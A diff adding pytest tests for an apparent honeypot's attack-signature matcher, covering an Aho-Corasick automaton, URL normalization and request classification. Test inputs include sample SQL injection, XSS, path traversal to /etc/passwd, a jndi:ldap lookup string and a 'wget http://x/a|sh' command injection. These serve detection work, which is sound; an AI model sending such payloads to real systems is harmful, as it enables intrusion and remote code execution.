@@ -0,0 +1,84 @@
+# tests/test_signatures.py
+import json
+import random
+
+import pytest
+
+from app import signatures
+from app.signatures import SIGNATURES, AhoCorasick, SignatureMatcher, load_signatures, normalize
+
+
+def test_overlapping_patterns_are_all_found():
+    automaton = AhoCorasick()
+    for word in ("he", "she", "his", "hers"):
+        automaton.add(word, word)
+    automaton.build()
+    assert automaton.search("ushers") == {"he", "she", "hers"}
+    assert automaton.search("ahishers") == {"his", "she", "he", "hers"}
+    assert automaton.search("xyz") == set()
+
+
+@pytest.mark.parametrize("seed", range(5))
+def test_automaton_agrees_with_substring_search(seed):
+    rng = random.Random(seed)
+    patterns = {"".join(rng.choices("abc", k=rng.randint(1, 5))) for _ in range(40)}
+    automaton = AhoCorasick()
+    for pattern in patterns:
+        automaton.add(pattern, pattern)
+    automaton.build()
+
+    for _ in range(50):
+        text = "".join(rng.choices("abcd", k=rng.randint(0, 30)))
+        assert automaton.search(text) == {p for p in patterns if p in text}
+
+
+def test_normalize_decodes_twice_and_lowercases():
+    assert normalize("%253Cscript%253E") == "<script>"
+    assert normalize("UNION+SELECT") == "union select"
+
+
+@pytest.mark.parametrize("request_line, attack_type, expected_ids", [
+    ("GET /item?id=1%20UNION%20SELECT%20pass HTTP/1.1", "sql_injection", {"SQLI-001"}),
+    ("GET /?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1", "xss_attempt", {"XSS-001", "XSS-009"}),
+    ("GET /../../etc/passwd HTTP/1.1", "path_traversal", {"TRAV-001", "TRAV-003"}),
+    ("GET / HTTP/1.1\" 200 1 \"-\" \"${jndi:ldap://x}\"", "command_injection", {"CMD-009"}),
+    ("GET /wp-login.php HTTP/1.1\" 404 1 \"-\" \"sqlmap/1.7\"", "web_scan", {"PATH-002", "PATH-005", "SCAN-001"}),
+])
+def test_classify_reports_type_and_every_signature(request_line, attack_type, expected_ids):
+    matched_type, ids = signatures.get_matcher().classify(request_line)
+    assert matched_type == attack_type
+    assert expected_ids <= set(ids)
+    assert ids == sorted(ids)
+
+
+def test_higher_priority_category_wins():
+    # Command injection outranks the scan path that also matches
+    matched_type, ids = signatures.get_matcher().classify("GET /cgi-bin/test?x=;wget http://x/a|sh HTTP/1.1")
+    assert matched_type == "command_injection"
+    assert {"PATH-009", "CMD-001", "CMD-003"} <= set(ids)
+
+
+def test_clean_request_matches_nothing():
+    assert signatures.get_matcher().classify("GET /index.html HTTP/1.1") == (None, [])
+
+
+def test_unlisted_categories_fall_back_to_name_order():
+    matcher = SignatureMatcher([("X-1", "zeta", "foo"), ("X-2", "alpha", "bar")])
+    assert matcher.classify("foobar") == ("alpha", ["X-1", "X-2"])
+
+
+def test_extra_signatures_are_loaded_from_a_file(tmp_path, monkeypatch):
+    path = tmp_path / "signatures.json"
+    path.write_text(json.dumps([{"id": "LOCAL-1", "category": "web_scan", "pattern": "/secret-panel"}]))
+    monkeypatch.setenv("HONEYPOT_SIGNATURES_FILE", str(path))
+
+    loaded = load_signatures()
+    assert loaded[:len(SIGNATURES)] == SIGNATURES
+    assert SignatureMatcher(loaded).classify("GET /Secret-Panel HTTP/1.1") == ("web_scan", ["LOCAL-1"])
+
+
+def test_a_broken_signature_file_keeps_the_built_in_ones(tmp_path, monkeypatch):
+    path = tmp_path / "signatures.json"
+    path.write_text('[{"id": "LOCAL-1"}]')
+    monkeypatch.setenv("HONEYPOT_SIGNATURES_FILE", str(path))
+    assert load_signatures() == SIGNATURES